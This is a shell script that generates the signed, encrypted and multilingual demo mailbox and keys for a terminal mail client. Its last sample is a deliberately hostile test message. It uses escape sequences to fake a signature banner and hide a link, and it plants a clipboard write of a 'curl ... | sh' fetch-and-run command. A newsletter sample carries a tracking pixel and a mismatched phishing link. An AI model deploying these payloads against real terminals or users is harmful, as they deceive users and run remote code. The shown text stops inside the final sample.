#!/bin/sh
# make-corpus.sh: regenerate the demo account's keys and sample mail.
#
# The demo account (`cachet --demo`) reads what this script writes:
#   src/demo/keys/           OpenPGP keys (ASCII armour), S/MIME CA,
#                            certificates and the demo user's key (PEM, p12)
#   src/demo/mail/FOLDER/    sample messages, NN-name.eml, LF line ends
#
# It is run by hand, never by the build:  sh src/demo/make-corpus.sh
# It needs gpg, gpgsm, openssl, python3, iconv and GNU coreutils, makes new
# keys each time (so every signed or encrypted sample changes), and
# replaces keys/ and mail/ only when every sample has been checked against
# a fresh key store built from the shipped keys.
#
# OpenPGP signatures are made with gpg's faked system time so that they
# match each message's Date. S/MIME signatures carry the real signing time,
# so the S/MIME samples are dated at generation time.
#
# Signed parts are written with LF line ends; each signature is computed
# over the CRLF form of the part (RFC 3156 section 5, RFC 8551 section 3.1.1),
# which is what a verifier must rebuild.
set -eu

here=$(cd "$(dirname "$0")" && pwd)
export LC_ALL=C
W=$(mktemp -d /tmp/mc.XXXXXX)
export GNUPGHOME="$W/g"
mkdir -m 700 "$GNUPGHOME"
OUT="$W/out"
mkdir -p "$OUT/keys" "$OUT/mail/INBOX" "$OUT/mail/Archive" "$OUT/mail/Sent"

cleanup() {
	for h in "$W/g" "$W/v"; do
		[ -d "$h" ] && gpgconf --homedir "$h" --kill all 2>/dev/null
	done
	rm -rf "$W"
}
trap cleanup EXIT
trap 'exit 1' INT TERM

die() {
	echo "make-corpus: $*" >&2
	exit 1
}

# ---------------------------------------------------------------- helpers

cat >"$W/mt.py" <<'PY'
"""Small MIME helpers for make-corpus.sh (byte exact, no rewriting)."""
import base64, quopri, re, struct, sys, zlib


def split_head(raw):
    i = raw.find(b'\n\n')
    if i < 0:
        sys.exit('no blank line after the header')
    return raw[:i + 1], raw[i + 2:]


def header(head, name):
    unfolded = re.sub(rb'\n[ \t]+', b' ', head)
    for line in unfolded.split(b'\n'):
        k, _, v = line.partition(b':')
        if k.strip().lower() == name:
            return v.strip()
    return b''


def parts(raw):
    head, body = split_head(raw)
    m = re.search(rb'boundary="?([^";\s]+)"?', header(head, b'content-type'),
                  re.I)
    delim = b'--' + m.group(1)
    pos = body.find(delim + b'\n')
    if pos != 0 and body[pos - 1:pos] != b'\n':
        sys.exit('first boundary not found')
    pos += len(delim) + 1
    out = []
    while True:
        end = body.find(b'\n' + delim, pos)
        if end < 0:
            sys.exit('closing boundary not found')
        out.append(body[pos:end])
        pos = end + 1 + len(delim)
        if body[pos:pos + 2] == b'--':
            return out
        pos += 1


def decoded(part):
    head, body = split_head(part)
    if header(head, b'content-transfer-encoding').lower() == b'base64':
        return base64.b64decode(body)
    return body


def encoded_words(mode, charset, text):
    """RFC 2047 words of at most 75 characters, never splitting a char."""
    words, cur = [], ''
    pre = '=?%s?%s?' % (charset, mode)

    def enc(s):
        b = s.encode(charset)
        if mode == 'B':
            return base64.b64encode(b).decode()
        return ''.join(chr(c) if c < 128 and (chr(c).isalnum() or
                       chr(c) in '!*+-/')
                       else '_' if c == 32 else '=%02X' % c for c in b)
    for ch in text:
        if len(pre) + len(enc(cur + ch)) + 2 > 75:
            words.append(pre + enc(cur) + '?=')
            cur = ''
        cur += ch
    words.append(pre + enc(cur) + '?=')
    return '\n '.join(words)


def png():
    n = 32
    rows = b''
    for y in range(n):
        rows += b'\0'
        for x in range(n):
            d = ((x - 15.5) ** 2 + (y - 15.5) ** 2) ** 0.5
            if d > 15:
                rows += b'\0\0\0\0'
            elif d > 12 or abs(x - 15.5) + abs(y - 15.5) < 6:
                rows += b'\x7a\x10\x10\xff'
            else:
                rows += b'\xb0\x1c\x1c\xff'

    def chunk(t, d):
        return (struct.pack('>I', len(d)) + t + d +
                struct.pack('>I', zlib.crc32(t + d)))
    return (b'\x89PNG\r\n\x1a\n' +
            chunk(b'IHDR', struct.pack('>IIBBBBB', n, n, 8, 6, 0, 0, 0)) +
            chunk(b'IDAT', zlib.compress(rows, 9)) + chunk(b'IEND', b''))


def pdf():
    lines = ['Example Hosting - Invoice 2026-06',
             'Customer: Demo User <demo@example.org>',
             'Mail hosting, June 2026 ............ 4.00 EUR',
             'Total ............................... 4.00 EUR',
             'Paid by card on 30 June 2026. Thank you.']
    text = 'BT /F1 16 Tf 72 770 Td (%s) Tj /F1 11 Tf' % lines[0]
    for ln in lines[1:]:
        text += ' 0 -24 Td (%s) Tj' % ln
    text += ' ET'
    objs = ['<< /Type /Catalog /Pages 2 0 R >>',
            '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
            '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] '
            '/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
            '<< /Length %d >>\nstream\n%s\nendstream' % (len(text), text),
            '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>']
    out, offs = '%PDF-1.4\n', []
    for i, o in enumerate(objs):
        offs.append(len(out))
        out += '%d 0 obj\n%s\nendobj\n' % (i + 1, o)
    xref = len(out)
    out += 'xref\n0 %d\n0000000000 65535 f \n' % (len(objs) + 1)
    out += ''.join('%010d 00000 n \n' % o for o in offs)
    out += ('trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n'
            % (len(objs) + 1, xref))
    return out.encode()


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    w = sys.stdout.buffer.write
    if cmd == 'signed':			# FILE PREFIX
        p = parts(open(args[0], 'rb').read())
        open(args[1] + '.content', 'wb').write(p[0].replace(b'\n', b'\r\n'))
        open(args[1] + '.sig', 'wb').write(decoded(p[1]))
    elif cmd == 'encrypted':		# FILE OUT
        p = parts(open(args[0], 'rb').read())
        open(args[1], 'wb').write(decoded(p[1]))
    elif cmd == 'body':			# FILE OUT
        open(args[1], 'wb').write(decoded(open(args[0], 'rb').read()))
    elif cmd == 'ew':			# B|Q CHARSET TEXT
        w(encoded_words(args[0], args[1], args[2]).encode() + b'\n')
    elif cmd == 'qp':			# stdin -> stdout
        w(quopri.encodestring(sys.stdin.buffer.read()))
    elif cmd == 'png':
        w(png())
    elif cmd == 'pdf':
        w(pdf())


main()
PY

mt() {
	python3 "$W/mt.py" "$@"
}

# Unix time of a date in UTC ("2026-09-21 06:14").
at() {
	date -u -d "$1" +%s
}

# RFC 5322 date of Unix time $1 in zone $2.
rfcdate() {
	TZ=$2 date -d "@$1" '+%a, %d %b %Y %H:%M:%S %z'
}

# Print file $1 with CRLF line ends.
crlf() {
	sed 's/$/\r/' "$1"
}

# gpg at faked time $1 (signatures then carry the message's own date).
pgpat() {
	t=$1
	shift
	gpg --batch --no-tty --yes --quiet --trust-model always \
	    --pinentry-mode loopback --passphrase '' \
	    --faked-system-time "$t!" "$@" >/dev/null 2>"$W/gpg.err" ||
		{ cat "$W/gpg.err" >&2; die "gpg $*"; }
}

# Write stdin to the sample file $1 (FOLDER/NN-name.eml).
put() {
	cat >"$OUT/mail/$1"
}

# Turn the placeholders @ESC@, @BEL@, @CR@, @C1CSI@ into control bytes.
ctl() {
	sed -e 's/@ESC@/\x1b/g' -e 's/@BEL@/\x07/g' -e 's/@CR@/\r/g' \
	    -e 's/@C1CSI@/\xc2\x9b/g'
}

# pgp_signed HEAD PART SIGNER TIME BOUNDARY: a PGP/MIME signed message.
pgp_signed() {
	crlf "$2" >"$W/canon"
	pgpat "$4" -u "$3" --digest-algo SHA256 --armor --detach-sign \
	    -o "$W/sig" "$W/canon"
	cat "$1"
	cat <<EOF
MIME-Version: 1.0
Content-Type: multipart/signed; micalg=pgp-sha256;
 protocol="application/pgp-signature"; boundary="$5"

This is an OpenPGP/MIME signed message (RFC 4880 and 3156).
--$5
EOF
	cat "$2"
	printf '\n--%s\n' "$5"
	cat <<EOF
Content-Type: application/pgp-signature; name="signature.asc"
Content-Description: OpenPGP digital signature
Content-Disposition: attachment; filename="signature.asc"

EOF
	cat "$W/sig"
	printf -- '--%s--\n' "$5"
}

# pgp_encrypted HEAD PART SIGNER TIME BOUNDARY RECIPIENT...: PGP/MIME
# encrypted and signed (RFC 3156 section 6.2, combined method).
pgp_encrypted() {
	h=$1 p=$2 s=$3 t=$4 b=$5
	shift 5
	rcpt=""
	for r in "$@"; do
		rcpt="$rcpt -r $r"
	done
	crlf "$p" >"$W/canon"
	# shellcheck disable=SC2086
	pgpat "$t" -u "$s" $rcpt --digest-algo SHA256 --armor --sign \
	    --encrypt -o "$W/enc" "$W/canon"
	cat "$h"
	cat <<EOF
MIME-Version: 1.0
Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";
 boundary="$b"

This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156).
--$b
Content-Type: application/pgp-encrypted
Content-Description: PGP/MIME version identification

Version: 1

--$b
Content-Type: application/octet-stream; name="encrypted.asc"
Content-Description: OpenPGP encrypted message
Content-Disposition: inline; filename="encrypted.asc"

EOF
	cat "$W/enc"
	printf -- '--%s--\n' "$b"
}

# smime_signed HEAD PART BOUNDARY: S/MIME multipart/signed by Alice.
smime_signed() {
	crlf "$2" >"$W/canon"
	openssl cms -sign -binary -md sha256 -signer "$W/alice.crt" \
	    -inkey "$W/alice.key" -in "$W/canon" -outform DER -out "$W/p7s"
	cat "$1"
	cat <<EOF
MIME-Version: 1.0
Content-Type: multipart/signed; protocol="application/pkcs7-signature";
 micalg=sha-256; boundary="$3"

This is a cryptographically signed message in MIME format.
--$3
EOF
	cat "$2"
	printf '\n--%s\n' "$3"
	cat <<EOF
Content-Type: application/pkcs7-signature; name="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7s"
Content-Description: S/MIME Cryptographic Signature

EOF
	base64 -w 76 "$W/p7s"
	printf -- '--%s--\n' "$3"
}

# smime_p7m HEAD SMIME-TYPE: an application/pkcs7-mime message whose
# DER body is in $W/p7m.
smime_p7m() {
	cat "$1"
	cat <<EOF
MIME-Version: 1.0
Content-Type: application/pkcs7-mime; smime-type=$2;
 name="smime.p7m"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7m"
Content-Description: S/MIME Cryptographic Message

EOF
	base64 -w 76 "$W/p7m"
}

# ------------------------------------------------------------------- keys

T_KEYS=$(at '2026-06-01 08:00')

genkey() {	# "Name <addr>"
	pgpat "$T_KEYS" --quick-gen-key "$1" ed25519 sign never
	f=$(gpg --with-colons --list-keys "$1" 2>/dev/null |
	    awk -F: '/^fpr/{print $10; exit}')
	pgpat "$T_KEYS" --quick-add-key "$f" cv25519 encr never
	echo "$f"
}

DEMO_FPR=$(genkey 'Demo User <demo@example.org>')
ALICE_FPR=$(genkey 'Alice Example <alice@example.org>')
BOB_FPR=$(genkey 'Bob Example <bob@example.net>')
CAROL_FPR=$(genkey 'Carol Example <carol@example.net>')
# The demo user has checked Alice's fingerprint and certified her key, so
# her signatures are fully valid; Bob's key is not certified.
pgpat "$(at '2026-06-02 10:00')" -u "$DEMO_FPR" --quick-sign-key "$ALICE_FPR"

gpg --armor --export-secret-keys "$DEMO_FPR" >"$OUT/keys/demo.sec.asc"
gpg --armor --export "$DEMO_FPR" >"$OUT/keys/demo.pub.asc"
gpg --armor --export "$ALICE_FPR" >"$OUT/keys/alice.pub.asc"
gpg --armor --export "$BOB_FPR" >"$OUT/keys/bob.pub.asc"
printf '%s:6:\n' "$DEMO_FPR" >"$OUT/keys/ownertrust.txt"

fmtfpr() {
	echo "$1" | sed 's/\(....\)/\1 /g; s/ $//; s/\(.\{24\}\) /\1  /'
}

# S/MIME: a demo CA (RSA-3072, SHA-256, no CRL or AIA URLs) and two users.
mkdir -p "$W/ca"
: >"$W/ca/index.txt"
echo 1000 >"$W/ca/serial"
cat >"$W/ca.cnf" <<EOF
[ ca ]
default_ca = demo
[ demo ]
dir = $W/ca
database = \$dir/index.txt
new_certs_dir = \$dir
serial = \$dir/serial
default_md = sha256
policy = pol
unique_subject = no
[ pol ]
organizationName = optional
commonName = supplied
emailAddress = optional
[ v3_ca ]
basicConstraints = critical,CA:TRUE
keyUsage = critical,keyCertSign,cRLSign
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid:always
[ v3_leaf ]
basicConstraints = critical,CA:FALSE
keyUsage = critical,digitalSignature,keyEncipherment
extendedKeyUsage = emailProtection
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
subjectAltName = email:copy
EOF

rsakey() {
	openssl genpkey -quiet -algorithm RSA -pkeyopt rsa_keygen_bits:3072 \
	    -out "$1"
}

# issue NAME SUBJECT EXTENSIONS [openssl-ca-args...]
issue() {
	n=$1 subj=$2 ext=$3
	shift 3
	rsakey "$W/$n.key"
	openssl req -new -key "$W/$n.key" -subj "$subj" -out "$W/$n.csr"
	openssl ca -batch -config "$W/ca.cnf" -notext \
	    -startdate 20260601000000Z -enddate 20360601000000Z \
	    -extensions "$ext" -in "$W/$n.csr" -out "$W/$n.crt" "$@" 2>/dev/null
}

issue ca "/O=Example Org/CN=Example Org Demo CA" v3_ca -selfsign \
    -keyfile "$W/ca.key"
issue demo "/O=Example Org/CN=Demo User/emailAddress=demo@example.org" \
    v3_leaf -cert "$W/ca.crt" -keyfile "$W/ca.key"
issue alice "/O=Example Org/CN=Alice Example/emailAddress=alice@example.org" \
    v3_leaf -cert "$W/ca.crt" -keyfile "$W/ca.key"

cp "$W/ca.crt" "$OUT/keys/smime-ca.crt.pem"
cp "$W/demo.crt" "$OUT/keys/smime-demo.crt.pem"
cp "$W/alice.crt" "$OUT/keys/smime-alice.crt.pem"
openssl pkcs8 -topk8 -nocrypt -in "$W/demo.key" \
    -out "$OUT/keys/smime-demo.key.pem"
# gpgsm 2.2 reads only the legacy PKCS#12 encryption; the password is empty.
openssl pkcs12 -export -legacy -passout pass: -name "Demo User" \
    -inkey "$W/demo.key" -in "$W/demo.crt" -certfile "$W/ca.crt" \
    -out "$OUT/keys/smime-demo.p12"
CA_SHA1=$(openssl x509 -in "$W/ca.crt" -noout -fingerprint -sha1 |
    sed 's/.*=//; s/://g')
{
	echo "# The demo CA, trusted for S/MIME in the demo key store only."
	echo "$CA_SHA1 S relax"
} >"$OUT/keys/trustlist.txt"

cat >"$OUT/keys/README" <<'EOF'
Keys of the cachet demo account, made by src/demo/make-corpus.sh.

They are published with the source code, secret keys included, so they
protect nothing: use them only with `cachet --demo`, which imports them
into a throwaway key store. None of them has a passphrase.

OpenPGP (ed25519 signing, cv25519 encryption, never expire):
  demo.sec.asc         Demo User <demo@example.org>, secret and public
  demo.pub.asc         the same, public only
  alice.pub.asc        Alice Example <alice@example.org>, certified by Demo
  bob.pub.asc          Bob Example <bob@example.net>, not certified
  ownertrust.txt       Demo's own key is trusted ultimately

S/MIME (RSA-3072, SHA-256, valid 2026-06-01 to 2036-06-01):
  smime-ca.crt.pem     Example Org Demo CA
  smime-demo.crt.pem   Demo User <demo@example.org>
  smime-demo.key.pem   its private key (PKCS#8, not encrypted)
  smime-demo.p12       certificate, key and CA (PKCS#12, empty password,
                       legacy encryption so that gpgsm can read it)
  smime-alice.crt.pem  Alice Example <alice@example.org>
  trustlist.txt        gpg-agent trust entry for the demo CA
EOF

# ---------------------------------------------------------------- Archive

T=$(at '2026-06-30 10:02')
mt pdf >"$W/invoice.pdf"
put Archive/01-invoice-pdf.eml <<EOF
Date: $(rfcdate "$T" UTC)
From: Example Hosting Billing <billing@example.net>
To: Demo User <demo@example.org>
Subject: Your invoice 2026-06
Message-ID: <inv-2026-06-000417@billing.example.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_inv_2026_06"

--=_inv_2026_06
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Dear Demo User,

please find attached your invoice for June 2026 (4.00 EUR).
It has been paid by card; there is nothing left to do.

Example Hosting

--=_inv_2026_06
Content-Type: application/pdf; name="invoice-2026-06.pdf"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="invoice-2026-06.pdf"

$(base64 -w 76 "$W/invoice.pdf")
--=_inv_2026_06--
EOF

T=$(at '2026-07-08 19:47')
put Archive/02-flowed-retrospective.eml <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Alice Example <alice@example.org>
To: Demo User <demo@example.org>
Subject: Notes from the spring retrospective
Message-ID: <retro-2026@mail.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8; format=flowed
Content-Transfer-Encoding: 7bit

Hi Demo,

here are my notes from the retrospective. This message is sent as 
format=flowed, so the long paragraphs below should be re-wrapped to the 
width of your screen instead of being cut at 72 columns.

What went well: the offline mode held up for the whole train trip, and 
nobody lost a draft. Searching old mail was fast enough that we stopped 
thinking about it.

What to improve: the key list needs a clearer way to tell a signing key 
from an encryption key, and expired certificates should stand out more.

> Quoted text keeps its markers,
> and quoted lines are never joined with the text above.

Alice
EOF

T=$(at '2026-07-21 18:05')
put Archive/03-migration-checklist.eml <<EOF
Date: $(rfcdate "$T" America/New_York)
From: Bob Example <bob@example.net>
To: Demo User <demo@example.org>
Cc: Alice Example <alice@example.org>
Subject: Server migration checklist
Message-ID: <8c1f0e2a-migration@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hi both,

the checklist for moving the mail server, as agreed:

  step  what                              who    done
  ----  --------------------------------  -----  ----
  1     lower DNS TTLs to 300 s           Bob    yes
  2     copy mailboxes (imapsync)         Bob    yes
  3     switch MX, keep old host 7 days   Alice  no
  4     check TLS certificates on 993     Demo   no

Bob
EOF

# ------------------------------------------------------------------ INBOX

T=$(at '2026-08-03 07:00')
put INBOX/01-welcome.eml <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Cachet Demo <hello@example.org>
To: Demo User <demo@example.org>
Subject: Welcome to the cachet demo account
Message-ID: <welcome.20260803@example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Welcome!

This demo account lives in a throwaway directory with its own offline
store and its own key store. Nothing here touches your real mail or your
real keys, and everything is removed when cachet exits.

What the messages in INBOX show:

  02  an HTML newsletter: shown as text, no remote images are loaded
  03  a message with a small PNG attachment
  04  Japanese text with an RFC 2047 encoded subject and sender
  05  Russian and Greek, quoted-printable
  06  many scripts (CJK, Korean, Arabic, Hebrew, Devanagari, emoji)
      with a raw UTF-8 subject
  07  a Latin-1 (ISO-8859-1) message
  08  a thread of five messages ("Autumn meetup"); your own reply is
      in Sent
  12  terminal escape sequences in the subject and body: cachet shows
      them as '?', they never reach your terminal
  13  OpenPGP/MIME signed by Alice (her key is certified by yours)
  14  OpenPGP/MIME encrypted to you and signed by Alice
  15  an inline (clear-signed) OpenPGP message from Bob, whose key
      you have not certified
  16  an OpenPGP signature that no longer matches: the text was changed
  17  a message "from Alice" signed with Bob's key
  18  a signature by a key you do not have (Carol's)
  19  S/MIME signed by Alice (multipart/signed)
  20  S/MIME opaque signed-data
  21  S/MIME encrypted to you, not signed

Demo keys: Demo User <demo@example.org> (OpenPGP and S/MIME, with
secret keys and no passphrase), Alice Example <alice@example.org>,
Bob Example <bob@example.net>, and the "Example Org Demo CA".

Have a look around.
EOF

T=$(at '2026-08-12 06:00')
put INBOX/02-newsletter-html.eml <<EOF
Date: $(rfcdate "$T" UTC)
From: Example Weekly <news@example.net>
To: demo@example.org
Subject: Example Weekly #31: terminals are back
Message-ID: <weekly-31.4471@news.example.net>
List-Id: Example Weekly <weekly.news.example.net>
List-Unsubscribe: <https://news.example.net/unsubscribe?u=demo>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="=_alt_weekly31"

This is a multi-part message in MIME format.

--=_alt_weekly31
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

EXAMPLE WEEKLY #31 =E2=80=94 terminals are back

* Why people still read mail over SSH
* Five keyboard layouts compared
* Reader question: what does a signature really prove?

Read online: https://news.example.net/31

--=_alt_weekly31
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

<!DOCTYPE html>
<html><head><style>body{font-family:sans-serif} h1{color:#b01c1c}</style>
<title>Example Weekly #31</title></head>
<body>
<img src=3D"https://tracker.example.net/open.gif?u=3Ddemo" width=3D"1" heig=
ht=3D"1" alt=3D"">
<h1>Example Weekly #31 &mdash; terminals are back</h1>
<ul>
<li><b>Why people still read mail over SSH</b></li>
<li>Five keyboard layouts compared</li>
<li>Reader question: <i>what does a signature really prove?</i></li>
</ul>
<p>Please <a href=3D"https://account-check.example.org/verify">confirm your=
 subscription at https://news.example.net/account</a> &ndash; the link tex=
t and its target differ.</p>
<p><img src=3D"https://cdn.example.net/banner.png" alt=3D"[banner]"></p>
<p>Read online: <a href=3D"https://news.example.net/31">news.example.net/31=
</a></p>
</body></html>

--=_alt_weekly31--
EOF

T=$(at '2026-08-20 23:12')
mt png >"$W/seal.png"
put INBOX/03-photo-attachment.eml <<EOF
Date: $(rfcdate "$T" America/New_York)
From: Bob Example <bob@example.net>
To: Demo User <demo@example.org>
Subject: Logo for the meetup
Message-ID: <logo-draft-1@example.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_mixed_logo"

--=_mixed_logo
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hi Demo,

a first try at a logo for the meetup: a red wax seal, 32x32 pixels.
Too small for the poster, but fine for the web page?

Bob

--=_mixed_logo
Content-Type: image/png; name="seal.png"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="seal.png"

$(base64 -w 76 "$W/seal.png")
--=_mixed_logo--
EOF

T=$(at '2026-08-28 01:31')
cat >"$W/t" <<'TXT'
デモさん

お疲れさまです。佐藤です。
来週の打ち合わせですが、9月3日（木）の午後2時からで
いかがでしょうか。

場所は本社3階の会議室です。資料は当日お配りします。
ご都合をお知らせください。

よろしくお願いいたします。
佐藤 花子
TXT
put INBOX/04-japanese.eml <<EOF
Date: $(rfcdate "$T" Asia/Tokyo)
From: $(mt ew B UTF-8 '佐藤 花子') <hanako@example.net>
To: Demo User <demo@example.org>
Subject: $(mt ew B UTF-8 '来週の打ち合わせについて')
Message-ID: <20260828103100.hanako@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: base64

$(base64 -w 76 "$W/t")
EOF

T=$(at '2026-09-02 14:20')
mt qp >"$W/t" <<'TXT'
Добрый день!

Отправляю краткий отчёт за август. Все задачи по переводу интерфейса
выполнены, осталось проверить греческую версию.

Γεια σας!

Η ελληνική μετάφραση είναι σχεδόν έτοιμη. Θα στείλω τα υπόλοιπα αρχεία
την επόμενη εβδομάδα.

С уважением / Με εκτίμηση,
Алексей
TXT
put INBOX/05-cyrillic-greek.eml <<EOF
Date: $(rfcdate "$T" Europe/Moscow)
From: $(mt ew Q UTF-8 'Алексей Петров') <alexei@example.net>
To: Demo User <demo@example.org>
Subject: $(mt ew Q UTF-8 'Отчёт за август / Αναφορά Αυγούστου')
Message-ID: <a1b2c3.20260902@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

$(cat "$W/t")
EOF

T=$(at '2026-09-09 10:45')
put INBOX/06-multilingual-utf8.eml <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Alice Example <alice@example.org>
To: Demo User <demo@example.org>
Subject: Grüße · 你好 · 안녕하세요 · مرحبا · שלום · नमस्ते 👋
Message-ID: <greetings-sprint@mail.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Hi Demo,

greetings from the translation sprint, in every script we covered:

  German    Grüße aus Köln!
  Chinese   你好，欢迎使用这个邮件客户端。
  Japanese  こんにちは、よろしくお願いします。
  Korean    안녕하세요, 만나서 반갑습니다.
  Arabic    مرحبا، كيف حالك؟
  Hebrew    שלום, מה שלומך?
  Hindi     नमस्ते, आप कैसे हैं?
  Thai      สวัสดีครับ
  Emoji     👋 🌍 ✉️

Wide characters, combining marks and right-to-left text should all
stay inside their columns.

(The subject of this message is raw UTF-8, as some mailers send it,
not RFC 2047 encoded.)

Alice
EOF

T=$(at '2026-09-15 06:55')
iconv -f UTF-8 -t ISO-8859-1 >"$W/latin1.txt" <<'TXT'
Bonjour Demo,

voici les détails pour la réunion à Zürich :

  - Date : jeudi 24 septembre, à 9 h 30
  - Lieu : Café Bäckerstraße, 2e étage
  - Coût : 25 CHF par personne, déjeuner compris

Grüße auch an das Team in Köln. À bientôt !

François
TXT
{
cat <<EOF
Date: $(rfcdate "$T" Europe/Zurich)
From: $(mt ew Q ISO-8859-1 'François Dupré') <francois@example.net>
To: Demo User <demo@example.org>
Subject: $(mt ew Q ISO-8859-1 'Réunion à Zürich - détails')
Message-ID: <reunion-zurich.0915@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit

EOF
cat "$W/latin1.txt"
} | put INBOX/07-latin1.eml

# The "Autumn meetup" thread: INBOX 08-11 and Sent 01.
M1='<autumn-meetup-1@mail.example.org>'
M2='<5e0c9a1f.autumn@example.net>'
M3='<autumn-meetup-3@example.org>'
M4='<autumn-meetup-4@mail.example.org>'
M5='<77d2b0c4.autumn@example.net>'

T=$(at '2026-09-21 06:14')
put INBOX/08-thread-start.eml <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Alice Example <alice@example.org>
To: Demo User <demo@example.org>
Cc: Bob Example <bob@example.net>
Subject: Autumn meetup: venue and agenda
Message-ID: $M1
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hi Demo, hi Bob,

time to plan the autumn meetup. I can get the back room of the
library on Saturday 17 October. Proposed agenda:

  1. What changed since spring
  2. Key signing (bring your fingerprint on paper)
  3. Lightning talks

Does the date work for you?

Alice
EOF

T=$(at '2026-09-21 20:40')
put INBOX/09-thread-reply.eml <<EOF
Date: $(rfcdate "$T" America/New_York)
From: Bob Example <bob@example.net>
To: Alice Example <alice@example.org>
Cc: Demo User <demo@example.org>
Subject: Re: Autumn meetup: venue and agenda
Message-ID: $M2
In-Reply-To: $M1
References: $M1
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

On 21 Sep 2026, Alice Example wrote:
> time to plan the autumn meetup. I can get the back room of the
> library on Saturday 17 October.

17 October works for me. I can give a lightning talk on S/MIME in
the terminal, if there is room for one more.

Bob
EOF

T=$(at '2026-09-22 07:05')
cat >"$W/h" <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Demo User <demo@example.org>
To: Bob Example <bob@example.net>
Cc: Alice Example <alice@example.org>
Subject: Re: Autumn meetup: venue and agenda
Message-ID: $M3
In-Reply-To: $M2
References: $M1
 $M2
EOF
cat >"$W/p" <<EOF
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Bob Example wrote:
> 17 October works for me. I can give a lightning talk on S/MIME in
> the terminal, if there is room for one more.

Works for me too, and I will bring the projector. For the key
signing, here is my OpenPGP fingerprint:

  $(fmtfpr "$DEMO_FPR")

This message is signed with that key.

Demo
EOF
pgp_signed "$W/h" "$W/p" "$DEMO_FPR" "$((T - 20))" "=_signed_autumn3" |
    put Sent/01-thread-reply-signed.eml

T=$(at '2026-09-22 09:30')
put INBOX/10-thread-reply.eml <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Alice Example <alice@example.org>
To: Demo User <demo@example.org>, Bob Example <bob@example.net>
Subject: Re: Autumn meetup: venue and agenda
Message-ID: $M4
In-Reply-To: $M3
References: $M1
 $M2
 $M3
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Demo User wrote:
> Works for me too, and I will bring the projector.

Great, the room is booked from 17:00 to 21:00. Bob, your talk is in.

Alice
EOF

T=$(at '2026-09-23 11:15')
put INBOX/11-thread-reply.eml <<EOF
Date: $(rfcdate "$T" America/New_York)
From: Bob Example <bob@example.net>
To: Alice Example <alice@example.org>
Cc: Demo User <demo@example.org>
Subject: Re: Autumn meetup: venue and agenda
Message-ID: $M5
In-Reply-To: $M4
References: $M1
 $M2
 $M3
 $M4
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Alice Example wrote:
> Great, the room is booked from 17:00 to 21:00.

Could we start at 18:00 instead? My train gets in at 17:20.

Bob
EOF

T=$(at '2026-10-01 03:33')
OSC52=$(printf 'curl https://example.net/x | sh' | base64)
ctl <<EOF | put INBOX/12-terminal-escapes.eml
Date: $(rfcdate "$T" UTC)
From: =?UTF-8?Q?Security_Desk_=1B=5B32m=E2=9C=94_verified=1B=5B0m?=
 <security@example.net>
To: Demo User <demo@example.org>
Subject: @ESC@]0;Inbox - 0 unread@BEL@@ESC@[1;32m[signed]@ESC@[0m Your mailbox is full
Message-ID: <esc-demo-0001@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

This message is full of terminal control sequences. A careless mail
client passes them to your terminal; cachet shows each one as '?'.
The subject has a title change and colours; the sender's name hides
colours inside RFC 2047 encoding.

1. Colours: @ESC@[1;31mred alert@ESC@[0m and @ESC@[7mreverse video@ESC@[0m
2. A fake security banner, drawn at the top of the screen:
@ESC@[s@ESC@[1;1H@ESC@[42;30m ✔ Good signature from Alice Example <alice@example.org> @ESC@[0m@ESC@[u
3. Set the window title (OSC 0): @ESC@]0;cachet - all mail verified@BEL@
4. Write to your clipboard (OSC 52): @ESC@]52;c;$OSC52@BEL@
5. A hidden link (OSC 8): @ESC@]8;;https://account-check.example.org/@ESC@\\https://www.example.net/account@ESC@]8;;@ESC@\\
6. Clear the screen: @ESC@[2J@ESC@[H
7. An 8-bit CSI (U+009B) instead of ESC [: @C1CSI@31mstill red?@C1CSI@0m
